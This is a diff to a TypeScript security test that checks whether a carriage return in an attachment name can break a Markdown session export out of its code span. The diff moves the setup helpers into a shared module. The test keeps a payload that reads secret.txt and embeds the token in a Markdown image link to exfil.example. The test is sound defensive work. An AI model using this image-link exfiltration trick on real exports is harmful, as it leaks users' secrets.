@@ -16,65 +16,23 @@
 // holds the image. A fix: fold every line ending (`\r`, and U+2028/U+0085 for viewers that split there) in
 // codeSpan/oneLine, or escape the text inside spans too.
 import assert from 'node:assert/strict'
-import { spawnSync } from 'node:child_process'
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
-import { join, resolve } from 'node:path'
+import { join } from 'node:path'
 import { after, test } from 'node:test'
-import { createEngine } from '../../src/engine/index.js'
-import { python } from '../sessions/helpers.js'
+import { prose, sessionReadingSecret, visExport } from './sessions-export-markdown.js'
 
 const base = mkdtempSync(join(tmpdir(), 'vis-attack-export-cr-'))
 after(() => rmSync(base, { recursive: true, force: true }))
 
-const visBin = resolve(import.meta.dirname, '../../bin/vis.js')
-
-// The Markdown text outside fenced code blocks and code spans, split into lines as CommonMark splits them
-// (LF, CR, CRLF); a code span is judged within its line's block, as block structure comes first.
-function prose(md: string): string[] {
-  const out: string[] = []
-  let open: string | undefined
-  for (const line of md.split(/\r\n|\r|\n/)) {
-    const f = /^ {0,3}(`{3,}|~{3,})/.exec(line)
-    if (open !== undefined) {
-      if (f && f[1]![0] === open[0] && f[1]!.length >= open.length && line.trim() === f[1]) open = undefined
-      continue
-    }
-    if (f) {
-      open = f[1]
-      continue
-    }
-    out.push(line.replace(/(`+)[\s\S]*?\1/g, ''))
-  }
-  return out
-}
-
 test('a carriage return in an attachment name does not break the export out of its code span', async () => {
-  const home = join(base, 'home')
-  const R = join(base, 'R')
-  mkdirSync(home)
-  mkdirSync(R)
-  writeFileSync(join(R, 'secret.txt'), 'TOKEN-5678\n')
-  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
-  let id: string
-  try {
-    const s = await engine.createSession({ roots: [R] })
-    id = s.id
-    const r = await engine.runBlock(s.id, {
-      code:
-        "vis_attach_bytes(b'hi', name='x\\r# ![a](https://exfil.example/n?d=' + open('secret.txt').read().strip() + ')')\n" +
-        "print('ok')",
-    })
-    assert.match(r.block.stdout ?? '', /ok/, JSON.stringify(r.block))
-  } finally {
-    await engine.close()
-  }
+  const { home, id, blocks } = await sessionReadingSecret(base, 'TOKEN-5678', [
+    "vis_attach_bytes(b'hi', name='x\\r# ![a](https://exfil.example/n?d=' + open('secret.txt').read().strip() + ')')\n" +
+      "print('ok')",
+  ])
+  assert.match(blocks[0]!.stdout ?? '', /ok/, JSON.stringify(blocks[0]))
   const file = join(base, 'export.md')
-  const r = spawnSync(process.execPath, [visBin, 'sessions', 'export', id, '-o', file], {
-    env: { ...process.env, VIS_HOME: home },
-    encoding: 'utf8',
-    timeout: 60_000,
-  })
+  const r = visExport(home, id, '-o', file)
   assert.equal(r.status, 0, r.stderr)
   const md = readFileSync(file, 'utf8')
   assert.match(md, /TOKEN-5678/, `the export does not hold the attachment's name: ${JSON.stringify(md)}`)
